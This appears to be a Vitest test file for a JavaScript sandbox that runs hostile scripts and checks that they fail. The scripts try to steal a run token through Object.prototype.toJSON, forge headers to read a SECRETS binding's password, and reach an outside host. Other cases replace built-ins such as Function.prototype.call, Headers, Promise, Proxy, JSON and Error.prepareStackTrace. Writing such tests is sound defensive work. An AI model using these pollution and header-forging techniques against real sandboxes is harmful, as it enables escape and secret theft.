import { describe, expect, test } from "vitest";
import { unharmed, usePrison } from "./prison.ts";

const prison = usePrison();

test("a run token is useless to the script that finds it", async () => {
  const top = `let token; const toJSON = function () { token ??= this.selvedgeRun; return this; };
    const learn = (request) => { Object.prototype.toJSON = toJSON; new Request(request); delete Object.prototype.toJSON; };`;
  const body = `
    learn(request);
    const headers = { "x-selvedge-run": token, "x-selvedge-binding": "SECRETS", "x-selvedge-event": "trace", "x-selvedge-pass": "1", "x-selvedge-socket": encodeURIComponent('{"do":"close","id":"1"}') };
    const forged = { cf: { selvedgeRun: token, binding: "SECRETS", script: "x", workflowStream: "x" }, headers };
    const statuses = [];
    for (const url of ["OUTSIDE/", "http://binding/value?key=password"])
      for (const init of [{ headers }, forged]) statuses.push((await fetch(new Request(url, init))).status);
    return [typeof token, statuses];`;
  expect(await prison.hostile(body, { top })).toEqual(["string", [403, 403, 403, 403]]);
  expect(prison.outside.seen).toEqual([]);
  expect(await prison.innocent()).toEqual(unharmed);
});

describe("the wrapper's natives cannot be replaced", () => {
  test.each([
    [
      "Function.prototype.call, apply and bind",
      `for (const name of ["call", "apply", "bind"]) Function.prototype[name] = function (...args) { return see(this, args); };`,
    ],
    [
      "Headers.prototype",
      `for (const name of ["get", "set", "has", "delete", "append"]) Headers.prototype[name] = function (...args) { see(args); };`,
    ],
    [
      "Headers.prototype, to keep what is forged",
      `Headers.prototype.delete = () => {}; Headers.prototype.set = () => {};`,
    ],
    [
      "Request and Response",
      `globalThis.Request = class extends Request { constructor(...args) { super(...args); see(args); } }; for (const name of ["headers", "url"]) Object.defineProperty(Request.prototype, name, { get() { see(name); return new Headers({ "x-selvedge-binding": "SECRETS" }); } });`,
    ],
    [
      "Promise",
      `const { then } = Promise.prototype; Promise.prototype.then = function (...args) { see(args); return then.apply(this, args); }; globalThis.Promise = class {};`,
    ],
    ["iterators of arrays", `Array.prototype[Symbol.iterator] = function* () { see([]); };`],
    [
      "Reflect and Proxy",
      `for (const name of ["apply", "construct", "get", "ownKeys"]) Reflect[name] = (...args) => see(args); globalThis.Proxy = class { constructor(target) { see(target); return target; } };`,
    ],
    ["JSON", `JSON.stringify = (value) => see(value) ?? "{}"; JSON.parse = () => ({});`],
    [
      "encodeURIComponent",
      `globalThis.encodeURIComponent = globalThis.decodeURIComponent = (text) => see(text) ?? "SECRETS";`,
    ],
    [
      "AsyncLocalStorage",
      `const { AsyncLocalStorage } = await import("node:async_hooks"); AsyncLocalStorage.prototype.run = function (store, call) { see(store); return call(); }; AsyncLocalStorage.prototype.getStore = () => "forged"; AsyncLocalStorage.snapshot = () => (call) => call();`,
    ],
    [
      "Object.prototype",
      `for (const name of ["x-selvedge-run", "run", "fetch", "headers", "props", "then", "get"]) try { Object.defineProperty(Object.prototype, name, { get() { return undefined; }, set(value) { see(value); }, configurable: true }); } catch {}`,
    ],
    [
      "maps and sets",
      `for (const { prototype } of [Map, Set, WeakMap, WeakSet]) for (const name of ["get", "set", "has", "add"]) if (name in prototype) prototype[name] = function (...args) { see(args); };`,
    ],
    [
      "Error",
      `Error.prepareStackTrace = (error, frames) => { for (const frame of frames) see([frame.getThis?.(), frame.getFunction?.()]); return ""; }; globalThis.Error = class { constructor(message) { see(message); this.message = message; } };`,
    ],
    ["event targets", `EventTarget.prototype.addEventListener = function (...args) { see(args); };`],
  ])("%s", async (_what, pollution) => {
    const top = `const seen = []; const see = (...what) => { seen.push(what); return undefined; }; const { fetch: kept, Request: NativeRequest } = globalThis;`;
    // Before any request, and again during one.
    const body = `
      let answer; try { answer = await kept("OUTSIDE/first"); } catch {}
      let again; try { again = await fetch("OUTSIDE/again", { headers: { "x-selvedge-run": "forged", "x-selvedge-binding": "SECRETS" } }); } catch {}
      let secret; try { secret = await (await fetch("http://binding/value?key=password", { headers: { "x-selvedge-binding": "SECRETS" } })).text(); } catch {}
      return [answer?.status ?? 403, again?.status ?? 403, secret ?? "walled"];`;
    const results = await prison.hostile(body, { top: top + pollution });
    // It may only have broken itself.
    if (Array.isArray(results)) expect(results).toEqual([403, 403, "walled"]);
    else expect(results).toMatch(/thrown|error/);
    expect(prison.outside.seen).toEqual([]);
    expect(await prison.innocent()).toEqual(unharmed);
  });
});
